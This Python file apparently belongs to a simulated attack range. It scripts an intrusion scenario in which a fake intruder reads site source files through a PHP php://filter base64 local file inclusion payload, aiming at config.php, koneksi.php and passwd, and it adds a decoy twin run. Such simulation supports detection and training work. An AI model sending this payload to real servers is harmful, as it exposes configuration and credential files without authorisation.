"""Sources are read through php://filter; twin: the same on a site that answers everything alike."""

from __future__ import annotations

from random import Random

from range.estate.addresses import abroad
from range.scenarios.acts import intruder
from range.scenarios.acts import twin as twin_of
from range.visits.browser import Browser
from range.visits.steps import Pause, Visit
from range.visits.world import World

NAME = "php_filter"
SITES: tuple[str, ...] = ("kel-dahlia",)
TWIN_SITES: tuple[str, ...] = ("ppid",)

_HEAD = "/unduh.php?file=php://filter/convert.base64-encode/resource="


def intrusion(world: World) -> None:
    """Three sources come back as base64, each of its own size; a fourth isn't there."""
    _, me, dice = intruder(world, NAME, SITES[0], "executed", accepts=("exfiltrated",))
    world.go(SITES[0], world.at(15, 13.7), _filter(me, dice, "source read"))


def _filter(me: Browser, dice: Random, role: str) -> Visit:
    for name, there in (("index", False), ("config.php", True), ("koneksi.php", True), ("passwd", True)):
        yield Pause(dice.uniform(4, 30))
        yield from me.get(_HEAD + name, role=role if there else "")


def twin(world: World) -> None:
    """Plan: the same four requests, always the home page."""
    actor, dice = twin_of(world, NAME, TWIN_SITES[0])
    me = world.browser(actor, abroad(dice))
    world.go(TWIN_SITES[0], world.at(15, 14.9), _filter(me, dice, ""))
